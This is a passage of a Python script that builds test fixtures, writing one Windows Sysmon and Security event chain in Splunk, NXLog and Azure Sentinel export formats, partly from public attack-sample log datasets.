        "host": HOST.split(".")[0], "source": "WinEventLog:Security", "sourcetype": "WinEventLog",
        "index": "wineventlog", "splunk_server": "idx01",
        "_raw": classic(OTHER_TIME, "Security", 4624, "Microsoft Windows security auditing.", 9100, "Logon", M4624),
    }]
    for e in EVENTS:
        rows.append({
            "_time": utc(e["time"]).astimezone(LOCAL).isoformat(timespec="milliseconds"),
            "host": HOST.split(".")[0], "source": "WinEventLog:Security", "sourcetype": "WinEventLog",
            "index": "wineventlog", "splunk_server": "idx01",
            "_raw": classic(e["time"], "Security", 4688, "Microsoft Windows security auditing.",
                            e["record"] + 4000, "Process Creation", m4688(sec4688(e))),
        })
    write("splunk/wineventlog_classic_export.csv", csv_text(header, rows))


def make_splunk_xml():
    """The project's XmlWinEventLog lines (EVTX-ATTACK-SAMPLES, GPL-3.0) as
    Splunk exports them: CSV, the export endpoint's JSON lines, REST results."""
    src = os.path.join("tests", "data", "attack_data", "evtx_attack_samples",
                       "sysmon_eid1_wmi_related.xml.log")
    with open(src, encoding="utf-8") as f:
        events = [line.rstrip("\n") for line in f][:13]
    rows = []
    for i, raw in enumerate(events):
        t = raw.split('SystemTime="', 1)[1].split('"', 1)[0]
        d = datetime.fromisoformat(t + "+00:00")
        computer = raw.split("<Computer>", 1)[1].split("<", 1)[0]
        rows.append({
            "_serial": i, "_time": d.astimezone(LOCAL).isoformat(timespec="milliseconds"),
            "host": computer, "index": "sysmon",
            "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
            "sourcetype": "XmlWinEventLog", "splunk_server": "idx01", "_raw": raw,
        })
    header = ["_serial", "_time", "host", "index", "source", "sourcetype", "splunk_server", "_raw"]
    write("splunk/xmlwineventlog_export.csv", csv_text(header, rows))
    lines = [{"preview": True, "offset": 0, "result": rows[0]}]
    lines += [{"preview": False, "offset": i, "lastrow": i == len(rows) - 1 or None, "result": r}
              for i, r in enumerate(rows)]
    for l in lines:
        if l.get("lastrow") is None:
            l.pop("lastrow", None)
    lines.append({"preview": False, "lastrow": True})
    write("splunk/xmlwineventlog_export.json",
          "".join(json.dumps(l, separators=(",", ":")) + "\n" for l in lines))
    results = {"preview": False, "init_offset": 0, "messages": [],
               "fields": [{"name": h} for h in header], "results": rows, "highlighted": {}}
    write("splunk/xmlwineventlog_results.json", json.dumps(results, indent=2) + "\n")


def make_tstats():
    """A tstats export as ESCU writes it: `firstTime`, no `_time`."""
    header = ["Processes.dest", "Processes.user", "Processes.parent_process_name",
              "Processes.parent_process_id", "Processes.process_name", "Processes.process_id",
              "Processes.process", "count", "firstTime", "lastTime"]
    rows = []
    for e in EVENTS:
        rows.append({"Processes.dest": HOST, "Processes.user": USER,
                     "Processes.parent_process_name": e["parent"]["path"].rsplit("\\", 1)[1],
                     "Processes.parent_process_id": e["parent"]["pid"],
                     "Processes.process_name": e["path"].rsplit("\\", 1)[1],
                     "Processes.process_id": e["pid"], "Processes.process": e["cmd"], "count": 1,
                     "firstTime": f"{utc(e['time']).timestamp():.3f}",
                     "lastTime": f"{utc(e['time']).timestamp():.3f}"})
    write("splunk/tstats_firsttime.csv", csv_text(header, rows))


# --- NXLog ---------------------------------------------------------------------------


def syslog_line(d, t, tag, pid):
    lt = local(t)
    stamp = f"{lt:%b} {lt.day:>2} {lt:%H:%M:%S}"
    return f"<14>{stamp} {HOST} {tag}[{pid}]: " + json.dumps(d, ensure_ascii=False, separators=(",", ":"))


def make_nxlog():
    lines = []
    for e in [None] + EVENTS:
        d = SYSMON3 if e is None else sysmon1(e)
        t = OTHER_TIME if e is None else e["time"]
        lt = local(t)
        rec = {
            "EventTime": f"{lt:%Y-%m-%d %H:%M:%S}", "Hostname": HOST, "Keywords": -9223372036854775808,
            "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO",
            "EventID": 3 if e is None else 1, "SourceName": "Microsoft-Windows-Sysmon",
            "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Version": 5,
            "Task": 3 if e is None else 1, "OpcodeValue": 0,
            "RecordNumber": 5100 if e is None else e["record"],
            "ExecutionProcessID": SYSMON_PID, "ThreadID": 3000, "Channel": SYSMON_CHANNEL,
            "Domain": "NT AUTHORITY", "AccountName": "SYSTEM", "UserID": "S-1-5-18",
            "AccountType": "User",
            "Category": "Network connection detected (rule: NetworkConnect)" if e is None else "Process Create (rule: ProcessCreate)",
            "Opcode": "Info",
        }
        rec.update(d)
        rec["Message"] = (sysmon3_message(d) if e is None else sysmon1_message(d)).replace("\r\n", " ")
        rec.update({"EventReceivedTime": f"{lt:%Y-%m-%d %H:%M:%S}", "SourceModuleName": "eventlog",
                    "SourceModuleType": "im_msvistalog"})
        lines.append(syslog_line(rec, t, "Microsoft-Windows-Sysmon", SYSMON_PID))
    write("nxlog/nxlog_ee_sysmon_syslog.log", "\n".join(lines) + "\n")
    # NXLog CE: the system PID is `ProcessID` and the EventData `ProcessId`
    # colliding with it is dropped; the message keeps it (rendered with CR LF
    # as Windows writes it; to_json escapes them).
    lines = []
    for e in EVENTS:
        d = sysmon1(e)
        lt = local(e["time"])
        rec = {"EventTime": f"{lt:%Y-%m-%d %H:%M:%S}", "Hostname": HOST, "EventType": "INFO",
               "EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "ProcessID": SYSMON_PID,
               "ThreadID": 3000, "Channel": SYSMON_CHANNEL, "Domain": "NT AUTHORITY",
               "AccountName": "SYSTEM", "UserID": "S-1-5-18", "RecordNumber": e["record"]}
        rec.update({k: v for k, v in d.items() if k != "ProcessId"})
        rec["Message"] = sysmon1_message(d)
        rec.update({"EventReceivedTime": f"{lt:%Y-%m-%d %H:%M:%S}", "SourceModuleName": "in",
                    "SourceModuleType": "im_msvistalog"})
        lines.append(json.dumps(rec, ensure_ascii=False, separators=(",", ":")))
    write("nxlog/nxlog_ce_sysmon.jsonl", "\n".join(lines) + "\n")


def make_nxlog_real_syslog():
    """The OTRF NXLog records (MIT) as `to_json(); to_syslog_bsd();` sends
    them: `<14>` (user.info), EventTime, Hostname, SourceName[the logging
    PID], then the JSON on one line."""
    src = os.path.join(OUT, "nxlog", "otrf_empire_wmic_add_user_backdoor_subset.jsonl")
    out = []
    with open(src, encoding="utf-8") as f:
        for line in f:
            rec = json.loads(line)
            t = datetime.strptime(rec["EventTime"], "%Y-%m-%d %H:%M:%S")
            stamp = f"{t:%b} {t.day:>2} {t:%H:%M:%S}"
            tag = rec["SourceName"].replace(" ", "_").replace("\t", "_")
            pid = rec.get("ExecutionProcessID", rec.get("ProcessID", 0))
            out.append(f"<14>{stamp} {rec['Hostname']} {tag}[{pid}]: {line.strip()}")
    write("nxlog/otrf_empire_wmic_syslog.log", "\n".join(out) + "\n")


# --- Azure Monitor / Sentinel SecurityEvent ---------------------------------------------


def make_azure():
    records = [{"TimeGenerated": iso_z(OTHER_TIME, 7), "Computer": HOST, "EventID": 4624,
                "Activity": "4624 - An account was successfully logged on.", "Channel": "Security",
                "EventSourceName": "Microsoft-Windows-Security-Auditing", "Account": USER,
                **SEC4624, "Type": "SecurityEvent"}]
    for e in EVENTS:
        records.append({"TimeGenerated": iso_z(e["time"], 7), "Computer": HOST, "EventID": 4688,
                        "Activity": "4688 - A new process has been created.", "Channel": "Security",
                        "EventSourceName": "Microsoft-Windows-Security-Auditing",
                        "Account": USER, "AccountType": "User", **sec4688(e),
                        "Process": e["path"].rsplit("\\", 1)[1], "Type": "SecurityEvent"})
    write("azure/securityevent_records.json", json.dumps({"records": records}, indent=2) + "\n")


if __name__ == "__main__":
    make_ecs()
    make_winlogbeat56()
    make_helk()
    make_powershell()
    make_evtxecmd()
    make_hayabusa()
    make_chainsaw()
    make_velociraptor()
    make_splunk()
    make_splunk_xml()
    make_tstats()
    make_nxlog()
    make_nxlog_real_syslog()
    make_azure()
    # The EDR vendors' layouts (same chain, plus a grandparent-only row).
    import mk_edr_samples
    mk_edr_samples.main()
